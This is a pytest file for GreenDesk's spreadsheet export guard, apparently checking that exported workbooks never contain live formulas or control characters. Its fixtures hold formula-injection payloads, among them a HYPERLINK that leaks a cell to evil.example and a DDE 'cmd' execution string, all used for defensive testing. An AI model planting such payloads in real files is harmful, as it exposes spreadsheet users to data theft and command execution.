"""The formula guard: no string GreenDesk writes into a workbook can run as a formula (OWASP CSV
injection: a leading = + - @ tab or carriage return) or make openpyxl refuse the file (control
characters), whether it was typed into the draft or comes from an embedded form definition."""

from __future__ import annotations

import copy
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from greendesk import cells
from greendesk.definition import parse_definition
from greendesk.export import export_blank_xlsx, export_xlsx, guard, import_xlsx
from greendesk.layout import table_lines

# one member of each class of dangerous start, and the error codes Excel would take literally
FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点此")', "+1+1", "-2+3*4", "@SUM(A1:A9)",
            "\t=1+1", "\n=cmd|' /C calc'!A0", " =1", "=1", "＝1+1", "#N/A", "#DIV/0!"]
# as greendesk.text cleans typed text: line breaks kept, other controls removed
CONTROLS = {"亮点\x0b第二行": "亮点\n第二行", "分页\x0c后": "分页\n后", "转义\x1b[31m红": "转义[31m红",
            "空\x00字符": "空字符", "响铃\x07": "响铃", "方向\u202e反": "方向反"}


def test_cell_text_neutralises_every_formula_start():
    for text in FORMULAS:
        assert guard.cell_text(text) == "'" + text.replace("\t", " ")  # a tab is a space, as typed
    assert guard.cell_text("\r=1") == "'\n=1"  # XML reads a carriage return back as \n
    assert guard.cell_text("普通文字") == "普通文字"
    assert guard.cell_text("1-2") == "1-2"  # only a leading sign is dangerous
    assert guard.cell_text(None) == ""


def test_clean_keeps_line_breaks_and_removes_other_controls():
    for raw, expected in CONTROLS.items():
        assert guard.clean(raw) == expected
    assert guard.clean("甲\n乙\r\n丙\t丁\r戊") == "甲\n乙\n丙 丁\n戊"
    assert guard.clean("孤\ud800") == "孤\ufffd"


def test_put_keeps_the_text_and_makes_it_inert():
    ws = Workbook().active
    for i, text in enumerate(FORMULAS, 1):
        c = ws.cell(row=i, column=1)
        guard.put(c, text)
        assert c.value == text.replace("\t", " ") and c.data_type == "s" and c.quotePrefix
    c = ws.cell(row=99, column=1)
    guard.put(c, 3.5)
    assert c.value == 3.5 and c.data_type == "n"


def test_seal_turns_a_formula_that_slipped_through_into_text():
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    wb.active["A2"] = "#REF!"
    guard.seal(wb)
    assert wb.active["A1"].data_type == "s" and wb.active["A1"].value == "=1+1"
    assert wb.active["A2"].data_type == "s"


def _hostile(i: int) -> str:
    """A formula-like text as a draft can hold it (typing turns a tab into a space)."""
    return FORMULAS[i % len(FORMULAS)].replace("\t", " ")


def _hostile_definition(d):
    """The shipped definition with a formula-like text in every label a workbook shows."""
    data = copy.deepcopy(d.canonical)
    n = iter(range(10_000))
    data["id"] = "green-factory-2098"
    data["title"] = "=HYPERLINK(\"http://evil\",\"绿色工厂\")"
    for part in data["parts"]:
        part["title"] = "@" + part["title"]
        part["note"] = "-" + (part.get("note") or "说明")
        for f in part["fields"]:
            f["label"] = "=" + f["label"]
            f["help"] = "+帮助\x0b" + (f.get("help") or "")
            if f["type"] == "choice":
                f["options"] = ["=" + o for o in f["options"]]
                if f.get("other_option"):
                    f["other_option"] = "=" + f["other_option"]
    for row in data["table"]["rows"]:
        row["name"] = _hostile(next(n)) + row["name"]
        row["parameters"] = "=" + (row.get("parameters") or "参数")
        row["fill_note"] = "-" + (row.get("fill_note") or "说明") + "\x1b"
        if row["kind"] in ("parameter", "indicator") and not row.get("unit_options"):
            row["unit"] = "=" + row["unit"]
        if row.get("products"):
            p = row["products"]
            p["output_label"] = "+" + p.get("output_label", "产品产量")
            p["intensity_label"] = "@" + p["intensity_label"]
            p["standard_list"] = "=" + p["standard_list"]
    return parse_definition(data)


def _fill_hostile(definition, draft):
    """A formula-like text in every free-text slot of the draft: fields, notes, product texts."""
    i = 0
    for part in definition.parts:
        for f in part.fields:
            if f.type in ("text", "multiline"):
                text = _hostile(i) + "文字"
                # a one-line field drops leading blanks, as when typed
                draft.fields[f.id] = text if f.type == "multiline" else text.strip()
                i += 1
    for line in table_lines(definition, draft):
        if line.note_cell:
            cells.put(draft, line.note_cell, _hostile(i) + "说明")
            i += 1
    cells.put(draft, "p:W3:applicable", "是")
    for row in ("E6", "W3"):
        cells.put(draft, f"p:{row}:0:name", '=HYPERLINK("http://x","产品")')
        cells.put(draft, f"p:{row}:0:standard", "@GB 1234")
        cells.put(draft, f"p:{row}:0:unit", '=HYPERLINK("http://evil.example","吨")')
    return draft


def _no_live_formula(path):
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and guard.is_risky(c.value):
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert not re.search(r"<f[ >/]", xml), name
    return wb


def test_hostile_draft_exports_without_a_live_formula_and_imports_back(tmp_path, def2025, sample2025):
    draft = _fill_hostile(def2025, sample2025)
    path = tmp_path / "hostile.xlsx"
    export_xlsx(def2025, draft, path)
    wb = _no_live_formula(path)
    texts = [c.value for row in wb["动态管理表"].iter_rows() for c in row if isinstance(c.value, str)]
    assert '=HYPERLINK("http://evil.example","吨")' in texts  # 产品1计量单位, shown as typed
    back, report = import_xlsx(path)
    assert report.skipped == []
    assert back.content() == draft.content()


def test_hostile_embedded_definition_exports_without_a_live_formula(tmp_path, def2025, sample2025):
    hostile = _hostile_definition(def2025)
    draft = _fill_hostile(def2025, sample2025)
    for f in (f for part in hostile.parts for f in part.fields if f.type == "choice"):
        if f.id in draft.fields:
            draft.fields[f.id] = "=" + draft.fields[f.id]  # the hostile option of the same choice
    for name in ("filled.xlsx", "blank.xlsx"):
        path = tmp_path / name
        if name == "blank.xlsx":
            export_blank_xlsx(hostile, path)
        else:
            export_xlsx(hostile, draft, path)
        wb = _no_live_formula(path)
        ws = wb["动态管理表"]
        assert ws["A1"].value == hostile.title
        texts = {c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
        fill_note = "-" + (def2025.rows["E1"].fill_note or "说明")  # its \x1b removed
        assert fill_note in texts
    back, report = import_xlsx(tmp_path / "filled.xlsx", hostile)
    assert report.skipped == []
    assert back.fields == draft.fields and back.products == draft.products
    for rid, entry in draft.table.items():  # single-unit rows take the (hostile) form's unit
        assert (back.table[rid].values, back.table[rid].note) == (entry.values, entry.note)


@pytest.mark.parametrize("raw,shown", list(CONTROLS.items()))
def test_control_characters_never_stop_the_export(tmp_path, def2025, sample2025, raw, shown):
    sample2025.fields["highlights"] = raw
    sample2025.fields["factory_name"] = raw
    sample2025.table["E0"].note = raw
    path = tmp_path / "ctl.xlsx"
    export_xlsx(def2025, sample2025, path)
    ws = load_workbook(path)["动态管理表"]
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert texts.count(shown) >= 3
    assert ws.oddHeader.right.text == shown.replace("\n", " ")
